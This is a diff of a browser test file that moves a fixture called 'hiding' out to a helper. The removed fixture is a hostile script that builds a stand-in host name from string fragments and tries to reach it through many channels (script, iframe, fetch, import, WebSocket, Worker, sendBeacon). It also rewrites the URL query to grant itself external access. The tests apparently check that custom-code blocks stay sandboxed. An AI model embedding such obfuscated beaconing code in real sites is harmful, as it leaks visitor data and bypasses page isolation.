@@ -6,6 +6,7 @@ import { projectRoot } from '../../build/paths.ts';
 import { expectAccessible } from '../helpers/axe.ts';
 import { provideBrowser } from '../helpers/browser.ts';
 import { type FakeBackend, startFakeBackend } from '../helpers/fake-backend.ts';
+import { hidingCode } from '../helpers/hiding-code.ts';
 import { rawPage, serveSite } from '../helpers/raw-content.ts';
 import { startHost, type TestHost } from '../helpers/start-host.ts';
 
@@ -27,21 +28,6 @@ const hostile = `<p id="says"></p><script>
 </script>`;
 const growing = '<style>body { height: 100vh; padding-bottom: 16px; }</style>Aina vähän lisää';
 const asking = `<p id="says">Ei vielä</p><script src="https://muu.example/a.js"></script>`;
-/** Builds its addresses from parts that nobody recognises, and tries to open the door for itself. */
-const hiding = `<p id="says"></p><script>
-  const there = ['ht', 'tps:/', '/muu.example/'].join('');
-  const load = (name, attributes) => document.body.append(Object.assign(document.createElement(name), attributes));
-  for (const name of ['img', 'script', 'iframe', 'video']) load(name, { src: there + name });
-  for (const rel of ['stylesheet', 'icon', 'prefetch', 'preload', 'modulepreload']) load('link', { rel, as: 'image', href: there + rel });
-  load('style', { textContent: '@import "' + there + 'style"; p { background: url(' + there + 'url) }' });
-  load('iframe', { srcdoc: '<img src="' + there + 'srcdoc">' });
-  const tries = [() => fetch(there), () => import(there), () => new WebSocket(there.replace('http', 'ws')), () => new Worker(there)];
-  Promise.allSettled([...tries, () => new EventSource(there)].map(async (attempt) => attempt())).then(() => {
-    navigator.sendBeacon(there);
-    says.textContent = 'Yritetty ' + location.search;
-    if (!location.search) location.search = ['ulko', 'puoliset=sallittu'].join('');
-  });
-</script>`;
 const code = (id: string, value: string) => ({ id, type: 'custom_code', value });
 
 let backend: FakeBackend & { close(): Promise<void> };
@@ -53,7 +39,7 @@ beforeAll(async () => {
   const document = { title: 'Muistilista', meta: { download_url: '/media/muistilista.pdf' } };
   const bodies: Record<string, object[]> = {
     '/koodi/': [code('useful', useful), code('hostile', hostile), code('growing', growing)],
-    '/muualta/': [code('asking', asking), code('hiding', hiding)],
+    '/muualta/': [code('asking', asking), code('hiding', hidingCode)],
     '/lista/': [{ id: 'pdf', type: 'document', value: document }],
   };
   serveSite(
